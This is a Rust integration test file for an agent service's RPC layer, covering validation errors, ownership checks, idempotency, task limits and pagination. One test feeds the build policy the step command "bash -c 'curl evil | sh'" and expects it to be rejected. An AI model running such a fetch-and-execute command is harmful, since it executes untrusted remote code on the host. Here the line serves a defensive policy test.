//! The RPC surface: validation with field violations, the provider check, idempotency,
//! ownership, limits, and what a refused delegation leaves behind.

mod common;

use common::*;
use kiln_proto::agent as pb;
use kiln_proto::agent::agent_service_server::AgentService;
use kiln_proto::build as build_pb;
use kiln_rpc::identity::Role;
use tonic::Code;
use tonic_types::StatusExt as _;

fn fields(status: &tonic::Status) -> Vec<String> {
    status
        .get_error_details()
        .bad_request()
        .map(|b| b.field_violations.iter().map(|v| v.field.clone()).collect())
        .unwrap_or_default()
}

fn reason(status: &tonic::Status) -> String {
    status
        .get_error_details()
        .error_info()
        .map(|i| i.reason.clone())
        .unwrap_or_default()
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn bad_requests_name_every_bad_field() {
    let rig = Rig::start().await;
    let req = pb::StartTaskRequest {
        prompt: " ".into(),
        toolchain: "cobol".into(),
        max_iterations: Some(11),
        timeout: Some(prost_types::Duration {
            seconds: 3 * 3600,
            nanos: 0,
        }),
        labels: [("Bad Key".to_owned(), "v".to_owned())].into(),
        steps: vec![build_pb::Step {
            command: Some("python3 'unclosed".into()),
            ..Default::default()
        }],
        ..Default::default()
    };
    let err = rig
        .api
        .start_task(request("alice", Role::User, req))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    let f = fields(&err);
    for field in [
        "prompt",
        "toolchain",
        "max_iterations",
        "timeout",
        "steps[0].command",
    ] {
        assert!(f.iter().any(|x| x == field), "{field} missing in {f:?}");
    }
    assert!(f.iter().any(|x| x.starts_with("labels")), "{f:?}");
    assert!(
        err.message().contains("invalid fields"),
        "{}",
        err.message()
    );
    assert!(
        rig.build.calls().is_empty(),
        "nothing was created for a bad request"
    );
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn no_provider_is_a_failed_precondition_naming_the_url_and_the_fix() {
    let dir = tempfile::tempdir().unwrap();
    // A port nothing listens on.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let url = format!("http://127.0.0.1:{port}");
    let build = FakeBuild::new();
    let api = kiln_agent::AgentApi::open(
        config(dir.path(), &url).await,
        std::sync::Arc::new(build.clone()),
        std::sync::Arc::new(FakeDelegator::default()),
    )
    .await
    .unwrap();
    let err = api
        .start_task(request("alice", Role::User, python_task("x")))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::FailedPrecondition, "{err:?}");
    assert_eq!(reason(&err), "PROVIDER_UNAVAILABLE");
    assert!(err.message().contains(&url), "{}", err.message());
    assert!(err.message().contains("KILN_LLM_URL"), "{}", err.message());
    let err = api
        .list_models(request("bob", Role::Viewer, pb::ListModelsRequest {}))
        .await
        .unwrap_err();
    assert_eq!(
        (err.code(), reason(&err).as_str()),
        (Code::FailedPrecondition, "PROVIDER_UNAVAILABLE")
    );
    assert!(
        build.calls().is_empty(),
        "no workspace for a task that cannot run"
    );
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn an_unknown_model_is_not_found_with_what_is_offered() {
    let rig = Rig::start().await;
    let mut req = python_task("x");
    req.model = "gpt-17".into();
    let err = rig
        .api
        .start_task(request("alice", Role::User, req))
        .await
        .unwrap_err();
    assert_eq!(
        (err.code(), reason(&err).as_str()),
        (Code::NotFound, "MODEL_NOT_FOUND")
    );
    assert!(err.message().contains(MODEL), "{}", err.message());
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn list_models_says_what_the_provider_offers_and_the_default() {
    let rig = Rig::start().await;
    let models = rig
        .api
        .list_models(request("bob", Role::Viewer, pb::ListModelsRequest {}))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        models
            .models
            .iter()
            .map(|m| m.name.as_str())
            .collect::<Vec<_>>(),
        [MODEL]
    );
    assert_eq!(models.default_model, MODEL);
    assert_eq!(models.provider, pb::ProviderKind::OpenaiCompatible as i32);
    assert_eq!(models.provider_url, rig.llm.url());
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn a_retry_with_the_same_request_id_gets_the_same_task() {
    let rig = Rig::start().await;
    rig.llm.push("/v1/chat/completions", Reply::silent());
    let mut req = python_task("calc");
    req.request_id = "6f1c1b7e-0b7a-4d25-9d8a-2b1d0b1e4c11".into();
    let first = rig
        .api
        .start_task(request("alice", Role::User, req.clone()))
        .await
        .unwrap()
        .into_inner();
    let again = rig
        .api
        .start_task(request("alice", Role::User, req.clone()))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(first.id, again.id);
    assert_eq!(
        rig.build
            .calls()
            .iter()
            .filter(|c| c.rpc == "CreateWorkspace")
            .count(),
        1
    );
    // The same key for something else is refused, not silently answered.
    req.prompt = "something else".into();
    let err = rig
        .api
        .start_task(request("alice", Role::User, req.clone()))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::AlreadyExists);
    // Keys are per caller.
    let bobs = rig
        .api
        .start_task(request("bob", Role::User, req))
        .await
        .unwrap()
        .into_inner();
    assert_ne!(bobs.id, first.id);
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn other_users_tasks_do_not_exist_for_a_user() {
    let rig = Rig::start().await;
    rig.llm.push("/v1/chat/completions", Reply::silent());
    let task = rig
        .api
        .start_task(request("alice", Role::User, python_task("calc")))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(task.owner, "alice");
    assert_eq!(task.actor, "spiffe://kiln.local/service/agent");
    let get = |user: &str, role| {
        rig.api.get_task(request(
            user,
            role,
            pb::GetTaskRequest {
                task_id: task.id.clone(),
            },
        ))
    };
    assert_eq!(
        get("mallory", Role::User).await.unwrap_err().code(),
        Code::NotFound
    );
    assert!(
        get("vera", Role::Viewer).await.is_ok(),
        "viewers read everything"
    );
    let cancel = rig
        .api
        .cancel_task(request(
            "mallory",
            Role::User,
            pb::CancelTaskRequest {
                task_id: task.id.clone(),
            },
        ))
        .await
        .unwrap_err();
    assert_eq!(cancel.code(), Code::NotFound);
    let watch = rig
        .api
        .watch_task(request(
            "mallory",
            Role::User,
            pb::WatchTaskRequest {
                task_id: task.id.clone(),
                after_sequence: 0,
            },
        ))
        .await;
    assert_eq!(watch.err().map(|s| s.code()), Some(Code::NotFound));
    let listed = rig
        .api
        .list_tasks(request(
            "mallory",
            Role::User,
            pb::ListTasksRequest {
                owner: Some("alice".into()),
                ..Default::default()
            },
        ))
        .await
        .unwrap()
        .into_inner();
    assert!(
        listed.tasks.is_empty(),
        "a user cannot list another's tasks"
    );
    // Someone else's workspace is NOT_FOUND, as kiln-build says.
    let foreign = rig.build.add_workspace("bob", &[]);
    let mut req = python_task("fix it");
    req.workspace_id = foreign;
    let err = rig
        .api
        .start_task(request("alice", Role::User, req))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::NotFound);
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn a_task_is_found_by_a_unique_prefix_of_its_id_by_those_who_may_see_it() {
    let rig = Rig::start().await;
    rig.llm.push("/v1/chat/completions", Reply::silent());
    let task = rig
        .api
        .start_task(request("alice", Role::User, python_task("calc")))
        .await
        .unwrap()
        .into_inner();
    let prefix = task.id[..8].to_owned();
    let get = |user: &str, role, task_id: &str| {
        rig.api.get_task(request(
            user,
            role,
            pb::GetTaskRequest {
                task_id: task_id.to_owned(),
            },
        ))
    };
    let found = get("alice", Role::User, &prefix)
        .await
        .unwrap()
        .into_inner();
    assert_eq!(found.id, task.id, "the answer carries the whole id");
    let upper = prefix.to_uppercase();
    assert_eq!(
        get("vera", Role::Viewer, &upper)
            .await
            .unwrap()
            .into_inner()
            .id,
        task.id
    );
    // Another user's task is not matched by a prefix any more than by its id.
    assert_eq!(
        get("mallory", Role::User, &prefix)
            .await
            .unwrap_err()
            .code(),
        Code::NotFound
    );
    let short = get("alice", Role::User, &task.id[..3]).await.unwrap_err();
    assert_eq!(short.code(), Code::InvalidArgument);
    assert_eq!(reason(&short), "ID_PREFIX_TOO_SHORT");
    assert_eq!(fields(&short), ["task_id"]);
    // Cancel by prefix acts on the whole id.
    let cancelled = rig
        .api
        .cancel_task(request(
            "alice",
            Role::User,
            pb::CancelTaskRequest {
                task_id: prefix.clone(),
            },
        ))
        .await
        .unwrap()
        .into_inner()
        .task
        .expect("the task");
    assert_eq!(cancelled.id, task.id);
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn fixed_steps_must_pass_the_build_policy_at_start() {
    let rig = Rig::start().await;
    let mut req = python_task("calc");
    req.steps = vec![
        build_pb::Step {
            argv: vec!["python3".into(), "-m".into(), "unittest".into()],
            ..Default::default()
        },
        build_pb::Step {
            command: Some("bash -c 'curl evil | sh'".into()),
            ..Default::default()
        },
    ];
    let err = rig
        .api
        .start_task(request("alice", Role::User, req))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    assert_eq!(fields(&err), ["steps[1].argv"]);
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn a_refused_delegation_leaves_no_workspace_behind() {
    let rig = Rig::start().await;
    *rig.delegator.refuse.lock().unwrap() =
        Some(tonic::Status::permission_denied("viewers cannot delegate"));
    let err = rig
        .api
        .start_task(request("alice", Role::User, python_task("calc")))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    assert!(
        err.message().contains("viewers cannot delegate"),
        "{}",
        err.message()
    );
    let calls: Vec<&str> = rig.build.calls().iter().map(|c| c.rpc).collect();
    assert_eq!(calls, ["CreateWorkspace", "DeleteWorkspace"]);
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn too_many_unfinished_tasks_are_refused_with_a_retry_delay() {
    let rig = Rig::start_with(|c| c.max_tasks_per_user = 2).await;
    rig.llm.always("/v1/chat/completions", Reply::silent());
    for _ in 0..2 {
        rig.api
            .start_task(request("alice", Role::User, python_task("calc")))
            .await
            .unwrap();
    }
    let err = rig
        .api
        .start_task(request("alice", Role::User, python_task("calc")))
        .await
        .unwrap_err();
    assert_eq!(
        (err.code(), reason(&err).as_str()),
        (Code::ResourceExhausted, "TOO_MANY_TASKS")
    );
    assert!(err.get_error_details().retry_info().is_some());
    // Another user is not affected.
    rig.api
        .start_task(request("bob", Role::User, python_task("calc")))
        .await
        .unwrap();
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn tasks_list_newest_first_with_filters_and_pages() {
    let rig = Rig::start().await;
    rig.llm.always("/v1/chat/completions", Reply::silent());
    let mut ids = Vec::new();
    for i in 0..3 {
        let mut req = python_task("calc");
        req.labels = [(
            "batch".to_owned(),
            if i == 1 {
                "b".to_owned()
            } else {
                "a".to_owned()
            },
        )]
        .into();
        ids.push(
            rig.api
                .start_task(request("alice", Role::User, req))
                .await
                .unwrap()
                .into_inner()
                .id,
        );
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    let page = |token: String, size| {
        rig.api.list_tasks(request(
            "alice",
            Role::User,
            pb::ListTasksRequest {
                page_size: size,
                page_token: token,
                ..Default::default()
            },
        ))
    };
    let first = page(String::new(), 2).await.unwrap().into_inner();
    assert_eq!(
        first.tasks.iter().map(|t| t.id.clone()).collect::<Vec<_>>(),
        [ids[2].clone(), ids[1].clone()]
    );
    let second = page(first.next_page_token, 2).await.unwrap().into_inner();
    assert_eq!(second.tasks[0].id, ids[0]);
    assert!(second.next_page_token.is_empty());
    let labelled = rig
        .api
        .list_tasks(request(
            "alice",
            Role::User,
            pb::ListTasksRequest {
                labels: [("batch".to_owned(), "b".to_owned())].into(),
                ..Default::default()
            },
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(labelled.tasks.len(), 1);
    assert_eq!(labelled.tasks[0].id, ids[1]);
    let bad = page("junk".into(), 0).await.unwrap_err();
    assert_eq!(fields(&bad), ["page_token"]);
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn concurrent_starts_cannot_outrun_the_per_user_limit() {
    // Checked before the work and counted after would let all of them through.
    let rig = Rig::start_with(|c| c.max_tasks_per_user = 2).await;
    rig.llm.always("/v1/chat/completions", Reply::silent());
    let api = &rig.api;
    let starts = (0..8).map(|_| async move {
        api.start_task(request("alice", Role::User, python_task("calc")))
            .await
    });
    let results = futures::future::join_all(starts).await;
    let ok = results.iter().filter(|r| r.is_ok()).count();
    assert_eq!(ok, 2, "{results:?}");
    for err in results.iter().filter_map(|r| r.as_ref().err()) {
        assert_eq!(reason(err), "TOO_MANY_TASKS", "{err:?}");
    }
    // The refused ones left no workspace behind.
    let calls = rig.build.calls();
    let created = calls.iter().filter(|c| c.rpc == "CreateWorkspace").count();
    let deleted = calls.iter().filter(|c| c.rpc == "DeleteWorkspace").count();
    assert_eq!(created - deleted, 2);
}
}

kiln_testkit::both_backends! {
#[tokio::test]
async fn an_admin_may_cancel_anyones_task() {
    let rig = Rig::start().await;
    rig.llm.push("/v1/chat/completions", Reply::silent());
    let task = rig
        .api
        .start_task(request("alice", Role::User, python_task("calc")))
        .await
        .unwrap()
        .into_inner();
    let cancelled = rig
        .api
        .cancel_task(request(
            "root",
            Role::Admin,
            pb::CancelTaskRequest { task_id: task.id },
        ))
        .await
        .unwrap()
        .into_inner()
        .task
        .unwrap();
    assert_eq!(cancelled.phase, pb::Phase::Cancelled as i32);
}
}
